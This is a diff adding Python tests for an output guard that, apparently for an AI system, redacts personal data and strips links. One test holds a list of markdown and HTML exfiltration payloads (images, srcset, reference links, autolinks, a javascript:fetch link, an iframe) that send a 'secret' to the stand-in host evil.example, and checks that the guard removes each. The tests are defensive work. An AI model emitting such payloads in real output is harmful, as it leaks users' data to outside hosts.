@@ -38,3 +38,37 @@ def test_pseudonyms_come_back_only_for_allowed_callers() -> None:
     answer = f"Write to {placeholder}."
     assert guard_output(answer, may_read_pii=True, pseudonymizer=conversation).text == "Write to maria.keller@example.com."
     assert guard_output(answer, may_read_pii=False, pseudonymizer=conversation).text == f"Write to {placeholder}."
+
+
+def test_every_link_and_image_form_is_covered() -> None:
+    attacks = [
+        "![a](//evil.example/p.png?d=secret)",  # protocol-relative image
+        '<a href="//evil.example/x?d=secret">details</a>',
+        "<img src=https://evil.example/x.png?d=secret>",
+        '<img srcset="https://evil.example/x.png?d=secret 2x">',
+        "[details][1]\n\n[1]: https://evil.example/x?d=secret",  # reference-style definition
+        "[details][r]\n\n[r]: //evil.example/x?d=secret",
+        "<https://evil.example/x?d=secret>",  # autolink
+        "see www.evil.example/x?d=secret",
+        "[x](javascript:fetch('https://evil.example/?d=secret'))",
+        '<iframe src="https://evil.example/?d=secret"></iframe>',
+        "![a](https://evil.example/p.png 'title')",
+    ]
+    for text in attacks:
+        guarded = guard_output(text, may_read_pii=True)
+        assert "evil.example" not in guarded.text and "secret" not in guarded.text.replace("[link removed]", ""), text
+        assert guarded.actions, text
+    kept = guard_output("[orders](mesh://commerce/orders) [page](/products/commerce/orders) postgres://crm:5432/db",
+                        may_read_pii=True)
+    assert kept.actions == [] and "postgres://crm:5432/db" in kept.text
+
+
+def test_redaction_uses_the_detectors_decision() -> None:
+    text = ("Call +353 1 234 5678 or +81-3-1234-5678, server 10.1.2.3, born 14/03/1987, "
+            "ship to 175 Victoria Road. The total was 25788.46 over 12 orders.")
+    guarded = guard_output(text, may_read_pii=False)
+    for value in ("234 5678", "1234-5678", "10.1.2.3", "14/03/1987", "175 Victoria Road"):
+        assert value not in guarded.text, value
+    assert "25788.46" in guarded.text and "12 orders" in guarded.text  # amounts are not phone numbers
+    found = {f.text for f in pii.analyze(text, threshold=pii.DECISION_THRESHOLD)}
+    assert "+353 1 234 5678" in found and "10.1.2.3" in found  # what scan reports is what the guard redacts
